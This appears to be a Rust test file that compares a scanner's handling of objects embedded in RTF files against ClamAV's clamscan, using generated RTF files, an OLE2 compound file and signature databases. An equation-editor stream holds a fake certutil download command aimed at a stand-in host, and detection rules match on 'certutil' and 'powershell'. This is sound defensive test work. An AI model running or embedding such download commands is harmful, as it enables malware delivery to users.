//! RTF embedded objects against clamscan: documents from `tests/data/mkrtfs.py` with an OLE1
//! package, a large one spanning several 8 KiB blocks, an embedded OLE2 compound file (written
//! here with cfb), two objects in one `\objdata`, hex split by spaces, a class name longer
//! than 64 bytes and `\objdata` followed by a line end (neither of which ClamAV dumps), and a
//! document cut short. Markers are looked for with generic and `Container:CL_TYPE_RTF`
//! signatures, payloads by their hashes; with and without `--allmatch`, and under limits.

use std::io::Write as _;

use super::*;

#[test]
fn clamav_rtf_objects() {
    require_tools();
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("corpus");
    fs::create_dir_all(&root).unwrap();
    // The compound file embedded in ole2.rtf: a Word stream and an Ole10Native package.
    let inner = b"inner payload RTF-IN-OLE2-R8 of the compound file".repeat(20);
    let mut native = vec![2u8, 0];
    native.extend_from_slice(b"x.bin\0C:\\x.bin\0\0\0\x03\0\0\0\0\0C:\\Temp\\x.bin\0");
    native.extend_from_slice(&(inner.len() as u32).to_le_bytes());
    native.extend_from_slice(&inner);
    let mut ole10 = (native.len() as u32).to_le_bytes().to_vec();
    ole10.extend_from_slice(&native);
    let ole_path = tmp.path().join("embedded.doc");
    {
        let mut c = cfb::CompoundFile::create_with_version(
            cfb::Version::V3,
            fs::File::create(&ole_path).unwrap(),
        )
        .unwrap();
        c.create_stream("/WordDocument")
            .unwrap()
            .write_all(&[b'w'; 600])
            .unwrap();
        // An equation-editor object of the kind RTF exploit documents carry.
        c.create_stream("/Equation Native")
            .unwrap()
            .write_all(b"\x1c\x00\x00\x00\x02\x00cmd /c CERTUTIL -urlcache -split -f http://x")
            .unwrap();
        c.create_stream("/\u{1}Ole10Native")
            .unwrap()
            .write_all(&ole10)
            .unwrap();
        c.flush().unwrap();
    }
    let mut hdb = run_generator("mkrtfs.py", &root, &[&ole_path]);
    let p = tmp.path().join("inner.bin");
    fs::write(&p, &inner).unwrap();
    writeln!(hdb, "{}:{}:H.inner", digest("md5sum", &p), inner.len()).unwrap();
    let markers = [
        "RTF-PKG-R1",
        "RTF-BIG-R2",
        "RTF-SECOND-R3",
        "RTF-CUT-R4",
        "RTF-LONGCLASS-R5",
        "RTF-NEWLINE-R6",
        "RTF-SPACED-R7",
        "RTF-IN-OLE2-R8",
    ];
    let mut ndb = String::new();
    let mut ldb = String::new();
    for m in markers {
        let h = hex(m.as_bytes());
        writeln!(ndb, "T.{m}:0:*:{h}").unwrap();
        writeln!(
            ldb,
            "L.{m};Engine:81-255,Target:0,Container:CL_TYPE_RTF;0;{h}"
        )
        .unwrap();
        writeln!(
            ldb,
            "O.{m};Engine:81-255,Target:0,Container:CL_TYPE_MSOLE2;0;{h}"
        )
        .unwrap();
    }
    // Target-2 signatures for OLE2 objects inside RTF, as third-party sets write them: a
    // command word and the equation editor's stream name (UTF-16 in the directory).
    for (name, word) in [("certutil", "certutil"), ("powershell", "powershell")] {
        writeln!(
            ldb,
            "E.{name};Engine:81-255,Container:CL_TYPE_RTF,Target:2;0&1;{}::i;{}::iaw",
            hex(word.as_bytes()),
            hex(b"equation")
        )
        .unwrap();
    }
    let db = tmp.path().join("db");
    fs::create_dir_all(&db).unwrap();
    fs::write(db.join("t.ndb"), &ndb).unwrap();
    fs::write(db.join("t.ldb"), &ldb).unwrap();
    fs::write(db.join("t.hdb"), &hdb).unwrap();
    let oracle = compare_with_clamscan("RTF objects", &db, &root, &["--allmatch"], &["--allmatch"]);
    expect_oracle(
        &oracle,
        true,
        &[
            ("package.rtf", "H.pkg"),
            ("package.rtf", "L.RTF-PKG-R1"),
            ("big.rtf", "H.big"),
            ("two.rtf", "H.second"),
            ("ole2.rtf", "H.inner"),
            ("spaced.rtf", "L.RTF-SPACED-R7"),
            ("ole2.rtf", "E.certutil"),
        ],
    );
    expect_oracle(
        &oracle,
        false,
        &[
            ("longclass.rtf", "L.RTF-LONGCLASS-R5"),
            ("newline.rtf", "L.RTF-NEWLINE-R6"),
            ("ole2.rtf", "E.powershell"),
        ],
    );
    for args in [
        &[][..],
        &["--allmatch", "--max-filesize=10000"],
        &["--allmatch", "--max-scansize=30000"],
    ] {
        compare_with_clamscan(&format!("RTF objects {args:?}"), &db, &root, args, args);
    }
}
